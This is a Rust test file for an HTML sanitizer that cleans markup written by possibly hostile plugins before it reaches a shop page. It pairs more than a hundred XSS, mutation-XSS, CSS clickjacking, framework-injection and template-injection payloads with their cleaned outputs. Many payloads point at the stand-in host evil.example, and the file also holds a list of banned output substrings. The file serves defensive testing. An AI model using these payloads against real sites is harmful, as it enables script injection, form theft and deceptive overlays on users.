//! HTML that a plugin might write in bad faith, and what comes out of the door. The expected output
//! stands beside each input, so that whoever loosens a rule sees what it lets through.

#![expect(clippy::unwrap_used, reason = "helpers of tests")]

use cloakroom_rewrite::{Edit, OutputPolicy, Removed, rewrite};

fn policy() -> OutputPolicy {
    OutputPolicy::new(vec!["shop.example".to_owned()], vec!["cdn.example".to_owned()], |path| {
        path == "/account" || path.starts_with("/account/")
    })
}

/// What `content` becomes inside a page, and what the author is told.
fn put(content: &str) -> (String, Vec<Removed>) {
    let edit = Edit::SetContent { selector: "#x".to_owned(), content: content.to_owned() };
    let (edits, removed) = policy().admit(vec![edit]);
    let page = rewrite(b"<div id=x>default</div>", &[&edits], &|_| None).unwrap();
    let page = String::from_utf8(page).unwrap();
    let inside = page.strip_prefix("<div id=x>").unwrap().strip_suffix("</div>").unwrap();
    (inside.to_owned(), removed)
}

const KEPT: &str = "default";

#[rustfmt::skip]
const CASES: &[(&str, &str)] = &[
    // Scripts
    ("<p>a</p><script>alert(1)</script>", "<p>a</p>"),
    ("<scr<script>ipt>alert(1)</script>", "ipt&gt;alert(1)"),
    ("<script/src=//evil.example></script>b", "b"),
    ("<ScRiPt>x</sCrIpT>b", "b"),
    ("<script>", ""),
    ("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<img>\"&gt;"),
    ("<style>*{background:url(//evil.example)}</style>b", "b"),
    ("<link rel=stylesheet href=//evil.example>b", "b"),
    ("<base href=//evil.example>b", "b"),
    ("<meta http-equiv=refresh content='0;url=//evil.example'>b", "b"),
    // Handlers and styles
    ("<p onclick=alert(1)>a</p>", "<p>a</p>"),
    ("<p ONCLICK=alert(1)>a</p>", "<p>a</p>"),
    ("<p/onclick=alert(1)>a</p>", "<p>a</p>"),
    ("<img src=/a.png onerror=alert(1)>", "<img src=\"/a.png\">"),
    ("<img src=x: onerror=alert(1)//", ""),
    ("<details ontoggle=alert(1) open>a</details>", "<details open=\"\">a</details>"),
    ("<p style='background:url(//evil.example)'>a</p>", "<p>a</p>"),
    ("<p\nonmouseover\n=\nalert(1)>a</p>", "<p>a</p>"),
    ("<p style='color:RED;background:u\\72l(//evil.example)'>a</p>", "<p style=\"color: red;\">a</p>"),
    ("<p style='color:red;position:fixed;inset:0;opacity:0'>a</p>", "<p style=\"color: red;\">a</p>"),
    ("<p style='position:fixed'>a</p>", "<p>a</p>"),
    ("<p style='color:&#114;ed'>a</p>", "<p style=\"color: red;\">a</p>"),
    ("<p style='font-family:Evil,serif'>a</p>", "<p>a</p>"),
    ("<p style='--x:url(//evil.example);color:var(--x)'>a</p>", "<p>a</p>"),
    ("<p style='margin:-999px;padding:1px'>a</p>", "<p style=\"padding: 1px;\">a</p>"),
    ("<p style='color:red}</style><script>x</script>'>a</p>", "<p>a</p>"),
    ("<p style='animation:x 1s;transition:all 1s' ontransitionend=x>a</p>", "<p>a</p>"),
    ("<p style='{{x}}'>a</p>", "<p>a</p>"),
    // Styles that cover what is around, unseen
    ("<a href=/x style='padding:256px;color:transparent'>a</a>", "<a href=\"/x\" style=\"color: transparent;\" rel=\"noopener\">a</a>"),
    ("<a href=/x style='padding:16px'>a</a>", "<a href=\"/x\" rel=\"noopener\">a</a>"),
    ("<a href=/x style='border:32px solid transparent'>a</a>", "<a href=\"/x\" rel=\"noopener\">a</a>"),
    ("<div style='display:grid;grid-auto-rows:1px;align-items:end'><div style='min-height:600px'>a</div></div>", "<div style=\"display: grid; align-items: safe end;\"><div>a</div></div>"),
    ("<div style='grid-template-rows:1px;grid-template-columns:1px;place-items:end'>a</div>", "<div style=\"place-items: safe end;\">a</div>"),
    ("<div style='display:flex;width:600px;aspect-ratio:100;min-height:0;align-items:flex-end'>a</div>", "<div style=\"display: flex; align-items: safe flex-end;\">a</div>"),
    ("<div style='display:flex;justify-content:flex-end'><p style='min-width:2000px'>a</p></div>", "<div style=\"display: flex; justify-content: safe flex-end;\"><p>a</p></div>"),
    ("<div style='display:flex;flex-direction:row-reverse'>a</div>", "<div style=\"display: flex;\">a</div>"),
    ("<div dir=rtl>a</div><bdi dir=rtl style='display:block'>b</bdi>", "<div>a</div><bdi dir=\"rtl\">b</bdi>"),
    ("<p style='font-size:10em'><b style='font-size:10em;box-shadow:0 0 0 4em red'>a</b></p>", "<p><b>a</b></p>"),
    ("<p style='font-size:64px;text-shadow:-2em -1em 0 red'>a</p>", "<p style=\"font-size: 64px; line-height: 1.25;\">a</p>"),
    ("<p style='font-size:160px;letter-spacing:-.125em'>a</p>", "<p>a</p>"),
    ("<div style='display:flex;flex-direction:column'><p style='flex:0 0 0px;min-height:0'>a</p></div>", "<div style=\"display: flex; flex-direction: column;\"><p style=\"flex: 0 0 0px; box-sizing: border-box;\">a</p></div>"),
    // Things that load, submit or frame
    ("<iframe src=/account></iframe>b", "b"),
    ("<iframe srcdoc='<script>x</script>'></iframe>b", "b"),
    ("<object data=/account></object>b", "b"),
    ("<embed src=/account>b", "b"),
    ("<form action=//evil.example><input name=card><button>Pay</button></form>", "Pay"),
    ("<input type=image src=//evil.example>", ""),
    ("<button formaction=//evil.example form=pay>a</button>", "a"),
    ("<textarea><img src=//evil.example></textarea>b", "b"),
    ("<select><option>a</option></select>b", "b"),
    ("<video src=//evil.example poster=//evil.example></video>b", "b"),
    ("<audio autoplay src=//evil.example></audio>b", "b"),
    ("<picture><source srcset=//evil.example><img src=/a.png></picture>", "<img src=\"/a.png\">"),
    ("<table background=//evil.example><tbody><tr><td>a</td></tr></tbody></table>", "<table><tbody><tr><td>a</td></tr></tbody></table>"),
    ("<body background=//evil.example>b", "b"),
    ("<template><img src=//evil.example></template>b", "b"),
    ("<slot name=x>a</slot>", "a"),
    ("<portal src=/account></portal>b", "b"),
    ("<dialog open>a</dialog>", "a"),
    // Foreign markup, and markup that parsers read in two ways
    ("<svg onload=alert(1)><a href=/x>a</a></svg>b", "b"),
    ("<svg><use href='data:image/svg+xml,x#y'/></svg>b", "b"),
    ("<svg><style><img src=x onerror=alert(1)></style></svg>b", "<img>b"),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", ""),
    ("<math><annotation-xml encoding='text/html'><script>x</script></annotation-xml></math>b", "b"),
    ("<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", ""),
    ("<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>b", "<img>'&gt;b"),
    ("<plaintext><p>a", ""),
    ("<title><a title='</title><img src=x onerror=alert(1)>'></title>b", "<img>'&gt;b"),
    ("<a title='</div><script>x</script>'>a</a>", "<a rel=\"noopener\">a</a>"),
    ("</div><p>a</p>", "<p>a</p>"),
    ("</div></div></body></html><p>a</p>", "<p>a</p>"),
    ("<div><p>a", "<div><p>a</p></div>"),
    ("<h2><option><h2>", "<h2></h2><h2></h2>"),
    ("<a href=/x><table><td><a href=/y>", "<a href=\"/x\" rel=\"noopener\"><table><tbody><tr><td><a href=\"/y\" rel=\"noopener\"></a></td></tr></tbody></table></a>"),
    ("<!-- --><p>a</p><!--[if IE]><script>x</script><![endif]-->", "<p>a</p>"),
    ("<![CDATA[<script>x</script>]]>b", "x]]&gt;b"),
    ("<?php echo 1 ?>b", "b"),
    ("<p title=\"a", ""),
    // Addresses
    ("<a href=javascript:alert(1)>a</a>", "<a rel=\"noopener\">a</a>"),
    ("<a href='jav&#x09;ascript:alert(1)'>a</a>", "<a rel=\"noopener\">a</a>"),
    ("<a href='&#1;javascript:alert(1)'>a</a>", "<a rel=\"noopener\">a</a>"),
    ("<a href='data:text/html,<script>x</script>'>a</a>", "<a rel=\"noopener\">a</a>"),
    ("<a href=vbscript:x>a</a>", "<a rel=\"noopener\">a</a>"),
    ("<a href=//evil.example>a</a>", "<a rel=\"noopener\">a</a>"),
    ("<a href=http://evil.example>a</a>", "<a rel=\"noopener\">a</a>"),
    ("<a href=/account?v=fr>a</a>", "<a href=\"/account\" rel=\"noopener\">a</a>"),
    ("<a href='https://shop.example/%61ccount/x?v=fr'>a</a>", "<a href=\"/account/x\" rel=\"noopener\">a</a>"),
    ("<a href=/sale?a=1&amp;b=2>a</a>", "<a href=\"/sale?a=1&amp;b=2\" rel=\"noopener\">a</a>"),
    ("<a href=/x target=_blank>a</a>", "<a href=\"/x\" target=\"_blank\" rel=\"noopener\">a</a>"),
    ("<a href=/x target=_blank rel=opener>a</a>", "<a href=\"/x\" target=\"_blank\" rel=\"noopener\">a</a>"),
    ("<a href=/x target=frame ping=//evil.example download>a</a>", "<a href=\"/x\" rel=\"noopener\">a</a>"),
    ("<a href=/x attributionsrc=//evil.example referrerpolicy=unsafe-url>a</a>", "<a href=\"/x\" rel=\"noopener\">a</a>"),
    ("<a xlink:href=javascript:x>a</a>", "<a rel=\"noopener\">a</a>"),
    ("<img src=/account/pixel.png>", "<img>"),
    ("<img src=/x/../account/pixel.png>", "<img>"),
    ("<img src=//evil.example/p.png>", "<img>"),
    ("<img src=https://evil.example/p.png>", "<img>"),
    ("<img src=https://cdn.example/p.png>", "<img src=\"https://cdn.example/p.png\">"),
    ("<img src=https://cdn.example@evil.example/p.png>", "<img>"),
    ("<img src=/a.png srcset='//evil.example 2x' sizes=10px>", "<img src=\"/a.png\" sizes=\"10px\">"),
    ("<img src=/a.png lowsrc=//evil.example dynsrc=//evil.example longdesc=//evil.example>", "<img src=\"/a.png\">"),
    ("<img src=/a.png srcset='/b.png 2x, /account/c.png 3x'>", "<img src=\"/a.png\">"),
    ("<img srcset='/b.png 1x,/%63.png 2x' sizes=10px src=/a.png>", "<img srcset=\"/b.png 1x, /c.png 2x\" sizes=\"10px\" src=\"/a.png\">"),
    ("<img src=/a.png sizes='(prefers-color-scheme:dark) 1px'>", "<img src=\"/a.png\">"),
    ("<link rel=preload as=image href=/account imagesrcset=/account>b", "b"),
    ("<link rel=prefetch href=//evil.example>b", "b"),
    ("<meta name=viewport content=x>b", "b"),
    ("<image src=/account onerror=x>", "<img>"),
    ("<img src=/a.png usemap=#m ismap crossorigin=use-credentials>", "<img src=\"/a.png\">"),
    ("<q cite=//evil.example>a</q>", "<q>a</q>"),
    // Names and frameworks
    ("<p id=cart name=cart>a</p>", "<p>a</p>"),
    ("<a name=cookie>a</a>", "<a rel=\"noopener\">a</a>"),
    ("<p data-action=click->cart#clear data-x=1>a</p>", "<p>cart#clear data-x=1&gt;a</p>"),
    ("<p v-html=x @click=y :href=z #slot *ngIf=a [innerHTML]=b (click)=c>a</p>", "<p>a</p>"),
    ("<p ng-init=x x-data=y hx-get=/account hx-trigger=load up-target=z wire:click=a _=b>a</p>", "<p>a</p>"),
    ("<p class='big ng-init:x() md:flex'>a</p>", "<p class=\"big md:flex\">a</p>"),
    ("<p is=x-evil slot=y part=z contenteditable accesskey=a tabindex=1 popover autofocus>a</p>", "<p>a</p>"),
    ("<x-evil onclick=a>a</x-evil>", "a"),
    ("<p data-nosnippet data-bs-toggle=modal>a</p>", "<p data-nosnippet=\"\">a</p>"),
    ("<p aria-controls=cart aria-owns=cart aria-activedescendant=x aria-modal=true aria-current=page>a</p>", "<p aria-current=\"page\">a</p>"),
    ("<a href=/x formaction=/y form=pay for=x action=/z method=post enctype=x>a</a>", "<a href=\"/x\" rel=\"noopener\">a</a>"),
    ("<p class=\"big ngInit:constructor.constructor('x')() md:p-1/2\">a</p>", "<p class=\"big md:p-1/2\">a</p>"),
    ("<p class='a;ng-init:x() !ng-init:y _ng-init:z'>a</p>", "<p>a</p>"),
    ("<p class='bg-[url(https://evil.example/b)] [body:has(input)_&]:bg-[url(//evil.example)]'>a</p>", "<p>a</p>"),
    // Words that scripts would take for markup
    ("<p title='&lt;img src=x onerror=x&gt;' aria-label='a &lt;b'>a</p>", "<p>a</p>"),
    ("<img src=/a.png alt='&amp;lt;script&amp;gt;'>", "<img src=\"/a.png\">"),
    ("<img src=/a.png alt='AT&T: 1 < 2'>", "<img src=\"/a.png\" alt=\"AT&amp;T: 1 &lt; 2\">"),
    // Formulas, and signs that change the alphabet
    ("<p>\\(\\href{javascript:x}{y}\\)</p>", KEPT),
    ("<p>$$\\href{javascript:x}{y}$$</p>", KEPT),
    ("<p>$<wbr>$x</p>", KEPT),
    ("a&#92;", KEPT),
    ("a $", KEPT),
    ("<p>5 $</p>", "<p>5 $</p>"),
    ("<p>a\u{1b}$B</p>", KEPT),
    ("<p>a&#27;$B</p>", KEPT),
    ("<p title='&#27;'>a</p>", "<p>a</p>"),
    ("<p class='js-logout big'>a</p>", "<p class=\"big\">a</p>"),
    ("<p aria-label=a aria-x{y=b aria-=c aria-\"onclick=d>a</p>", "<p aria-label=\"a\">a</p>"),
    // Template languages
    ("{{constructor.constructor('x')()}}", KEPT),
    ("a {<b></b>{x}}", "a {<b></b>{x}}"),
    ("{x}}", KEPT),
    ("a {", KEPT),
    ("a {<!-- -->{x}}", KEPT),
    ("a {<script></script>{x}}", KEPT),
    ("a &#123;&lbrace;x}}", KEPT),
    ("a {\u{0}{x}}", KEPT),
    ("<p title='{{x}}'>a</p>", KEPT),
    ("<p class='{{x}}'>a</p>", "<p>a</p>"),
    ("<% x %>", KEPT),
    ("<p>&lt;%= x %></p>", KEPT),
    ("a ${x}", KEPT),
    ("{% include x %}", KEPT),
    ("[[x]]", KEPT),
    ("<a href='/x?{{y}}'>a</a>", KEPT),
];

#[test]
fn hostile_html_comes_out_as_written_here() {
    assert!(CASES.len() >= 60);
    for (input, expected) in CASES {
        assert_eq!(put(input).0, *expected, "{input}");
    }
}

#[test]
fn what_came_out_goes_in_unchanged() {
    for (input, _) in CASES {
        let (once, _) = put(input);
        let (twice, removed) = put(&once);
        assert_eq!(once, twice, "{input}");
        assert_eq!(removed, [], "{input}");
    }
}

#[test]
fn nothing_that_runs_or_loads_elsewhere_is_in_any_output() {
    for (input, _) in CASES {
        let output = put(input).0.to_ascii_lowercase();
        let tags: String =
            output.split('<').skip(1).filter_map(|tag| tag.split_once('>')).map(|(tag, _)| tag).collect();
        for bad in [
            "script",
            "onerror",
            "onclick",
            "url(",
            "fixed",
            "evil",
            "iframe",
            "account/c",
            "data:",
            "http:",
            " id=",
        ] {
            assert!(!tags.contains(bad), "{input}");
        }
    }
}

#[test]
fn the_author_is_told_what_is_missing_and_why() {
    for (content, expected) in [
        ("<p onclick=a>a</p>", "attribute `onclick` of `p`: event handlers are not allowed"),
        ("<p style=a>a</p>", "attribute `style` of `p`, `a`: it is not on the list of harmless properties"),
        ("<script>x</script>", "element `script`: scripts are not allowed"),
        ("<style>a{}</style>b", "element `style`: a style sheet would reach the whole page"),
        ("<!-- a -->b", "a comment: comments stay out of pages"),
        ("<tr><td>a</td></tr>", "element `td`: it cannot stand there"),
        ("<p data-x=1>a</p>", "attribute `data-x` of `p`: scripts of the page could act on it"),
        ("<p hx-get=/x>a</p>", "attribute `hx-get` of `p`: a framework of the page could run it"),
        ("<a href=/x rel=opener>a</a>", "attribute `rel` of `a`: it changes how something is asked for"),
        ("<img src=/account>", "attribute `src` of `img`: a picture may not come from a passthrough route"),
        (
            "<a href='/account?a'>a</a>",
            "attribute `href` of `a`, the query: links into passthrough routes carry no query",
        ),
        ("<p title='a", "markup: it cannot be read"),
        ("<p title='&lt;b>'>a</p>", "attribute `title` of `p`: scripts of the page could take it for HTML"),
        (
            "<a style='padding:1px'>a</a>",
            "attribute `style` of `a`, `padding`: around a part of a line it takes no room, and covers other lines",
        ),
        ("<p dir=rtl>a</p>", "attribute `dir` of `p`: what is too large would overflow at the other side"),
        ("a\u{1b}", "the edit: its content holds a control character"),
        ("\\(a", "the edit: `\\` could be run by a template language of the page"),
        (
            "<p class='a ngInit'>a</p>",
            "attribute `class` of `p`, class `ngInit`: a framework of the page could run it",
        ),
        ("{{a}}", "the edit: `{{` could be run by a template language of the page"),
    ] {
        let (_, removed) = put(content);
        assert!(
            removed.iter().any(|note| note.to_string() == expected && note.edit == 0),
            "{content}: {removed:?}"
        );
    }
}

#[test]
fn plain_html_passes_whole_and_silently() {
    for content in [
        "<h2 class=\"hero md:flex\">Été à −20 %</h2>\n<p lang=\"fr\">C'est <b>bien</b>&nbsp;!</p>",
        "<ul><li>a</li><li>b</li></ul>",
        "<figure><img src=\"/img/a.png\" alt=\"A coat\" width=\"300\" height=\"200\" loading=\"lazy\"></figure>",
        "<table><tbody><tr><td colspan=\"2\">a</td></tr></tbody></table>",
        "<section role=\"region\" aria-label=\"Sale\"><time datetime=\"2030-01-01\">soon</time></section>",
        "<p style=\"color: #c00; padding: 1rem 2rem;\">a</p>",
        "<img src=\"/a.png\" srcset=\"/a.png 1x, /b.png 2x\" alt=\"\">",
        "<a href=\"#reviews\" rel=\"noopener\">Reviews</a>",
        "",
    ] {
        let (output, removed) = put(content);
        assert_eq!(output, content);
        assert_eq!(removed, [], "{content}");
    }
}

#[test]
fn content_that_makes_the_parser_work_is_refused_soon() {
    let distinct: String = (0..1_000).map(|n| format!("<b class=a{n}>")).collect();
    let few: String = (0..60).map(|n| format!("<font class=a{n}>")).collect();
    let long = "x".repeat(300);
    let heavy: String = (0..58).map(|n| format!("<b title={n}{long}>")).collect();
    let attributes: String = (0..12_000).map(|n| format!(" {n:x}")).collect();
    for content in [
        "<div>".repeat(13_000),
        "<b>".repeat(20_000),
        format!("<p>{distinct}{}", "<p>a".repeat(5_000)),
        format!("<p>{few}{}", "<p>a".repeat(1_900)),
        format!("<p>{heavy}{}", "<p>a".repeat(1_900)),
        format!("<p>{heavy}<textarea>{}</textarea>{}", "</b>".repeat(58), "<p>a".repeat(1_800)),
        format!("<p{attributes}>a</p>"),
        "<table><td>".repeat(1_000),
        "<a href=/x><table><td></a></table>".repeat(400),
        "<".repeat(65_000),
        "&".repeat(65_000),
        "<!--".repeat(16_000),
        "<svg><math>".repeat(1_000),
        "a".repeat(70_000),
    ] {
        let begun = std::time::Instant::now();
        let (output, _) = put(&content);
        let start: String = content.chars().take(20).collect();
        assert!(output.len() < 600_000, "{start}: {} bytes", output.len());
        assert!(begun.elapsed().as_secs() < 10, "{start}: {:?}", begun.elapsed());
        // A fragment may be longer, and passes the same door.
        let begun = std::time::Instant::now();
        let _ = policy().admit_fragment(content.repeat(4).as_bytes());
        assert!(begun.elapsed().as_secs() < 10, "{start}: {:?}", begun.elapsed());
    }
}
